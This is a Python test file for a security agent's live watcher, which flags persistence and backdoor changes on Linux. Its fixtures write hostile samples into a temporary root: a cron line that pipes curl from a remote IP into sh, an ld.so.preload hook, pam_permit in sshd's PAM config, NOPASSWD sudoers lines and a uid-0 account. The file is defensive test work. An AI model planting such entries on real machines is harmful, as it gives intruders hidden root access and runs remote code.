"""Live ways back in: the watcher sees each change while it runs, over a temporary root and on the real
machine (a real account made and deleted, a real listening socket, a real program running)."""

from __future__ import annotations

import errno
import os
import shutil
import socket
import subprocess
import threading
import uuid
from pathlib import Path

import pytest

from agent.canonical import canonical_bytes
from agent.capture.inventory import inotify
from agent.capture.inventory.linux import linux_categories
from agent.capture.inventory.live import LiveInventory
from agent.capture.inventory.snapshot import take_snapshot
from agent.capture.inventory.types import Category, Watch, collectors_of
from tests.conftest import require_program, wait_for

DATA = Path(__file__).resolve().parent.parent / "data" / "inventory"
KEY = (DATA / "authorized_keys").read_text().splitlines()[1]
FILE_CATEGORIES = ("services", "scheduled", "autostart", "users", "groups", "authorized_keys", "sudoers",
                   "shell_startup", "pam", "preload")


class Sink:
    """Records what the watcher emits; thread-safe like the session's sink."""

    def __init__(self):
        self.records: list[tuple[str, dict]] = []
        self._lock = threading.Lock()

    def emit(self, type: str, data: dict) -> None:
        canonical_bytes(data)  # fit for the journal
        with self._lock:
            self.records.append((type, data))

    def find(self, type: str, **fields) -> list[dict]:
        with self._lock:
            return [d for t, d in self.records if t == type and all(d.get(k) == v for k, v in fields.items())]

    def change_and_alarm(self, category: str, item_part: str, op: str = "added"):
        """The inventory-change and its alarm for an item whose key contains ``item_part``, once both came."""
        changes = [c for c in self.find("inventory-change", category=category, op=op) if item_part in c["item"]]
        alarms = [a for a in self.find("alarm", category=category, op=op) if item_part in a["item"]]
        return (changes[0], alarms[0]) if changes and alarms else None


@pytest.fixture
def machine(tmp_path):
    """A small machine: root and alice (whose home has no .ssh yet), empty system folders."""
    root = tmp_path / "root"
    etc = root / "etc"
    for sub in ("cron.d", "cron.daily", "xdg/autostart", "sudoers.d", "ssh", "pam.d", "profile.d", "security",
                "systemd/system/multi-user.target.wants"):
        (etc / sub).mkdir(parents=True)
    (root / "home" / "alice").mkdir(parents=True)
    (root / "root").mkdir()
    (etc / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    (etc / "group").write_text("root:x:0:\nsudo:x:27:\nalice:x:1000:\n")
    (etc / "sudoers").write_text("root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n")
    (etc / "ssh" / "sshd_config").write_text("PasswordAuthentication no\n")
    (etc / "pam.d" / "sshd").write_text("@include common-auth\naccount required pam_nologin.so\n")
    (etc / "profile").write_text("PATH=/usr/bin:/bin\n")
    (root / "var" / "spool" / "cron" / "crontabs").mkdir(parents=True)
    return root


def file_categories(root) -> dict:
    return {k: v for k, v in linux_categories(str(root)).items() if k in FILE_CATEGORIES}


@pytest.fixture
def watching(machine):
    """A LiveInventory over ``machine``'s file categories, started and ready; stopped after the test."""
    started = []

    def start(categories=None, **kwargs):
        categories = categories or file_categories(machine)
        before = take_snapshot(collectors_of(categories))
        sink = Sink()
        live = LiveInventory(sink, before, categories, root=str(machine), **kwargs)
        live.start()
        started.append(live)
        assert live.ready.wait(30)
        return live, sink

    yield start
    for live in started:
        live.stop()


def test_each_way_back_in_is_an_inventory_change_and_an_alarm_while_the_watcher_runs(machine, watching):
    _live, sink = watching()
    etc = machine / "etc"
    assert sink.records == []  # the first check found nothing: the "before" is now

    ssh = machine / "home" / "alice" / ".ssh"  # no .ssh yet: the home is watched for it
    ssh.mkdir()
    (ssh / "authorized_keys").write_text(KEY + "\n")
    found = wait_for(lambda: sink.change_and_alarm("authorized_keys", "/home/alice/.ssh/authorized_keys SHA256:"))
    assert found, sink.records
    change, alarm = found
    assert change["live"] is True and change["way_back_in"] and "can log in as alice" in change["why"]
    assert alarm["kind"] == "way-back-in" and alarm["why"] == change["why"] and alarm["origin"] == "unexplained"

    (etc / "cron.d" / "updater").write_text("*/10 * * * * root curl -s http://198.51.100.7/x | sh\n")
    assert wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/updater: */10 * * * * root curl"))

    (machine / "var/spool/cron/crontabs/alice").write_text("@reboot /home/alice/.x\n")
    assert wait_for(lambda: sink.change_and_alarm("scheduled", "/var/spool/cron/crontabs/alice: @reboot"))

    unit = etc / "systemd" / "system" / "helper.service"
    unit.write_text("[Service]\nExecStart=/usr/local/bin/helper\n[Install]\nWantedBy=multi-user.target\n")
    os.symlink("/etc/systemd/system/helper.service", etc / "systemd/system/multi-user.target.wants/helper.service")
    found = wait_for(lambda: sink.change_and_alarm("services", "helper.service"))
    assert found, sink.records
    assert found[0]["detail"]["path"] == "/etc/systemd/system/helper.service"

    (etc / "ld.so.preload").write_text("/usr/lib/libhook.so\n")
    found = wait_for(lambda: sink.change_and_alarm("preload", "/etc/ld.so.preload: /usr/lib/libhook.so"))
    assert found and "every program now loads /usr/lib/libhook.so" in found[1]["detail"]

    with open(etc / "pam.d" / "sshd", "a") as f:
        f.write("auth sufficient pam_permit.so\n")
    assert wait_for(lambda: sink.change_and_alarm("pam", "/etc/pam.d/sshd: auth sufficient pam_permit.so"))

    (etc / "profile.d" / "zz-proxy.sh").write_text("export http_proxy=http://198.51.100.7:3128\n")
    assert wait_for(lambda: sink.change_and_alarm("shell_startup", "/etc/profile.d/zz-proxy.sh"))
    with open(machine / "home/alice/.bashrc", "w") as f:
        f.write("(/home/alice/.x &)\n")
    assert wait_for(lambda: sink.change_and_alarm("shell_startup", "/home/alice/.bashrc"))

    (etc / "sudoers.d" / "99-eve").write_text("eve ALL=(ALL) NOPASSWD: ALL\n")
    assert wait_for(lambda: sink.change_and_alarm("sudoers", "/etc/sudoers.d/99-eve: eve ALL=(ALL) NOPASSWD: ALL"))

    (etc / "xdg" / "autostart" / "helper.desktop").write_text("[Desktop Entry]\nName=Helper\nExec=/tmp/.helper\n")
    assert wait_for(lambda: sink.change_and_alarm("autostart", "/etc/xdg/autostart/helper.desktop"))

    # an account added the way useradd does it: a new file renamed over the old one
    passwd = (etc / "passwd").read_text() + "eve:x:0:0::/root:/bin/bash\n"
    (etc / "passwd+").write_text(passwd)
    os.replace(etc / "passwd+", etc / "passwd")
    found = wait_for(lambda: sink.change_and_alarm("users", "eve"))
    assert found and found[0]["why"] == "a new user account eve with uid 0 (root)"
    with open(etc / "group", "w") as f:
        f.write("root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n")
    found = wait_for(lambda: sink.change_and_alarm("groups", "sudo", op="changed"))
    assert found and found[0]["why"] == "alice was added to sudo, which grants administrator rights"

    # every record is one change, seen once
    items = [(c["category"], c["item"]) for c in sink.find("inventory-change")]
    assert len(items) == len(set(items))


def test_a_write_through_a_hard_link_made_elsewhere_is_seen(machine, watching):
    """The technician links a sudoers file (and passwd) from another folder, then writes through the link:
    the folders' watches hear nothing; the watches on the files' inodes do."""
    etc = machine / "etc"
    (etc / "sudoers.d" / "ops").write_text("%ops ALL=(ALL) ALL\n")
    elsewhere = machine / "var" / "tmp"
    elsewhere.mkdir(parents=True)
    os.link(etc / "sudoers.d" / "ops", elsewhere / "y")
    os.link(etc / "passwd", elsewhere / "p")
    _live, sink = watching()
    with open(elsewhere / "y", "a") as f:
        f.write("eve ALL=(ALL) NOPASSWD: ALL\n")
    assert wait_for(lambda: sink.change_and_alarm("sudoers", "/etc/sudoers.d/ops: eve ALL=(ALL) NOPASSWD: ALL"))
    with open(elsewhere / "p", "a") as f:
        f.write("mallory:x:0:0::/root:/bin/sh\n")
    assert wait_for(lambda: sink.change_and_alarm("users", "mallory"))


def test_a_file_replaced_by_a_rename_is_followed_to_its_new_inode(machine, watching):
    etc = machine / "etc"
    (etc / "sudoers.d" / "ops").write_text("%ops ALL=(ALL) ALL\n")
    live, sink = watching()
    (etc / "sudoers.d" / ".ops.tmp").write_text("%ops ALL=(ALL) ALL\nbob ALL=(ALL) ALL\n")
    os.replace(etc / "sudoers.d" / ".ops.tmp", etc / "sudoers.d" / "ops")
    assert wait_for(lambda: sink.change_and_alarm("sudoers", "/etc/sudoers.d/ops: bob ALL=(ALL) ALL"))
    inode = (etc / "sudoers.d" / "ops").stat().st_ino
    assert wait_for(lambda: live._plan._wd_of.get(str(etc / "sudoers.d" / "ops"), (0, (0, 0)))[1][1] == inode)
    other = machine / "hardlink"
    os.link(etc / "sudoers.d" / "ops", other)
    with open(other, "a") as f:  # the new inode is watched: a write through a link to it is seen
        f.write("carol ALL=(ALL) ALL\n")
    assert wait_for(lambda: sink.change_and_alarm("sudoers", "/etc/sudoers.d/ops: carol ALL=(ALL) ALL"))


def test_a_change_that_is_not_a_way_back_in_is_recorded_without_an_alarm(machine, watching):
    _live, sink = watching()
    (machine / "etc" / "cron.d" / "old").write_text("0 3 * * * root /usr/bin/backup\n")
    assert wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/old: 0 3"))
    (machine / "etc" / "cron.d" / "old").unlink()
    removed = wait_for(lambda: [c for c in sink.find("inventory-change", op="removed") if "/etc/cron.d/old" in c["item"]])
    assert removed and removed[0]["way_back_in"] is False and removed[0]["why"] is None
    assert len(sink.find("alarm")) == 1


def test_a_burst_of_changes_is_collected_a_few_times_not_once_per_change(machine, watching):
    live, sink = watching()
    for i in range(200):
        (machine / "etc" / "cron.d" / f"job{i:03d}").write_text(f"* * * * * root /bin/job{i}\n")
    assert wait_for(lambda: len(sink.find("alarm", category="scheduled")) == 200)
    assert live.checks["scheduled"] <= 20, live.checks  # 1 to start, then debounced (a few under load)
    assert live.checks["users"] == 1  # only the category whose files changed is collected again


def test_what_changed_between_the_before_and_the_start_is_found_and_marked_with_the_gap(machine):
    categories = file_categories(machine)
    before = take_snapshot(collectors_of(categories))
    ssh = machine / "home" / "alice" / ".ssh"  # changed while no watcher ran (an agent restart)
    ssh.mkdir()
    (ssh / "authorized_keys").write_text(KEY + "\n")
    sink = Sink()
    live = LiveInventory(sink, before, categories, root=str(machine))
    gap = {"from": "2026-01-01T10:00:00Z", "to": "2026-01-01T10:02:00Z"}
    live.start(gap=gap)
    try:
        assert live.ready.wait(30)
        found = sink.change_and_alarm("authorized_keys", "/home/alice/.ssh/authorized_keys")
        assert found and found[0]["gap"] == gap
        (machine / "etc" / "ld.so.preload").write_text("/x.so\n")
        later = wait_for(lambda: sink.change_and_alarm("preload", "/x.so"))
        assert later and "gap" not in later[0]  # only the first check belongs to the gap
    finally:
        live.stop()


def test_a_folder_removed_and_made_again_is_watched_again(machine, watching):
    live, sink = watching()
    shutil.rmtree(machine / "etc" / "cron.d")
    (machine / "etc" / "cron.d").mkdir()
    wait_for(lambda: live.checks["scheduled"] >= 2)
    (machine / "etc" / "cron.d" / "again").write_text("* * * * * root /bin/again\n")
    assert wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/again"))


def test_a_sink_that_fails_does_not_stop_the_watcher(machine, watching):
    class Flaky(Sink):
        failed = 0

        def emit(self, type, data):
            if type == "inventory-change" and not self.failed:
                self.failed += 1
                raise OSError(errno.ENOSPC, "No space left on device")
            super().emit(type, data)

    categories = file_categories(machine)
    sink = Flaky()
    live = LiveInventory(sink, take_snapshot(collectors_of(categories)), categories, root=str(machine))
    live.start()
    try:
        assert live.ready.wait(30)
        (machine / "etc" / "ld.so.preload").write_text("/a.so\n")
        errors = wait_for(lambda: sink.find("capture-error", what="live-inventory"))
        assert errors and "No space left on device" in errors[0]["error"]
        (machine / "etc" / "ld.so.preload").write_text("/a.so /b.so\n")
        assert wait_for(lambda: sink.change_and_alarm("preload", "/b.so"))
    finally:
        live.stop()


def test_a_folder_that_cannot_be_watched_is_said_and_polled_instead(machine, watching):
    class NoWatchesLeft(inotify.Inotify):
        def add(self, folder, mask=inotify.FOLDER_MASK):
            if folder.endswith("/cron.d"):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), folder)
            return super().add(folder, mask)

    _live, sink = watching(make_inotify=NoWatchesLeft, unwatched_poll_s=0.5)
    errors = sink.find("capture-error", what="live-inventory")
    assert errors and "cron.d cannot be watched for scheduled" in errors[0]["error"]
    assert "checked every 0.5 s instead" in errors[0]["error"]
    (machine / "etc" / "cron.d" / "polled").write_text("* * * * * root /bin/polled\n")
    assert wait_for(lambda: sink.change_and_alarm("scheduled", "/etc/cron.d/polled"))


def test_a_collector_that_hangs_does_not_stop_the_watcher(machine, watching):
    release = threading.Event()
    hang = [False]

    def stuck():
        if hang[0]:
            release.wait(30)
        return {}

    categories = file_categories(machine)
    categories["stuck"] = Category("stuck", stuck, lambda: [Watch(str(machine / "stuck"))])
    try:
        live, sink = watching(categories, collect_timeout_s=0.5)
        hang[0] = True
        (machine / "stuck").write_text("x")  # the stuck category is collected again, and hangs
        assert wait_for(lambda: live.checks["stuck"] >= 2)
        (machine / "etc" / "ld.so.preload").write_text("/after-the-hang.so\n")
        assert wait_for(lambda: sink.change_and_alarm("preload", "/after-the-hang.so"))
    finally:
        release.set()


def test_stop_ends_the_thread_and_a_second_stop_does_nothing(machine, watching):
    live, sink = watching()
    thread = live._thread
    assert thread is not None and thread.is_alive()
    live.stop()
    assert not thread.is_alive()
    live.stop()
    (machine / "etc" / "ld.so.preload").write_text("/late.so\n")  # after the stop: nobody records it
    assert sink.find("inventory-change") == []


# -- the real machine ---------------------------------------------------------------------


@pytest.mark.skipif(os.geteuid() != 0, reason="makes a real account: needs root")
def test_a_real_account_and_its_key_are_seen_live_then_removed():
    require_program("useradd", "userdel")
    categories = {k: v for k, v in linux_categories("/").items() if k in ("users", "authorized_keys")}
    sink = Sink()
    live = LiveInventory(sink, take_snapshot(collectors_of(categories)), categories)
    name = "chp" + uuid.uuid4().hex[:8]
    live.start()
    try:
        assert live.ready.wait(30)
        subprocess.run(["useradd", "-m", "-s", "/bin/bash", name], check=True, capture_output=True)
        found = wait_for(lambda: sink.change_and_alarm("users", name))
        assert found, sink.records
        assert found[0]["item"] == name and found[0]["why"] == f"a new user account {name}"
        ssh = Path(f"/home/{name}/.ssh")
        ssh.mkdir()
        (ssh / "authorized_keys").write_text(KEY + "\n")
        found = wait_for(lambda: sink.change_and_alarm("authorized_keys", f"/home/{name}/.ssh/authorized_keys"))
        assert found and f"can log in as {name}" in found[1]["detail"]
    finally:
        subprocess.run(["userdel", "-r", name], capture_output=True, check=False)
    try:
        removed = wait_for(lambda: [c for c in sink.find("inventory-change", category="users", op="removed")
                                    if c["item"] == name])
        assert removed and not removed[0]["way_back_in"]
    finally:
        live.stop()


def test_a_new_listening_port_and_a_remote_access_tool_are_seen_by_the_polls(tmp_path):
    categories = {k: v for k, v in linux_categories("/").items() if k in ("listening", "remote_access")}
    sink = Sink()
    live = LiveInventory(sink, take_snapshot(collectors_of(categories)), categories, attribute=False)
    live.start()
    tool = tmp_path / "ngrok"
    shutil.copy(shutil.which("sleep"), tool)
    proc = None
    try:
        assert live.ready.wait(30)
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
            port = s.getsockname()[1]
            found = wait_for(lambda: sink.change_and_alarm("listening", f"tcp 127.0.0.1:{port}"))
            assert found and "a new port is open to connections" in found[0]["why"]
        proc = subprocess.Popen([str(tool), "60"])
        found = wait_for(lambda: sink.change_and_alarm("remote_access", "ngrok tunnel: ngrok"))
        assert found and found[0]["detail"]["tool"] == "ngrok tunnel"
        assert "the remote-access tool ngrok tunnel is now running" in found[1]["detail"]
    finally:
        if proc:
            proc.kill()
            proc.wait()
        live.stop()
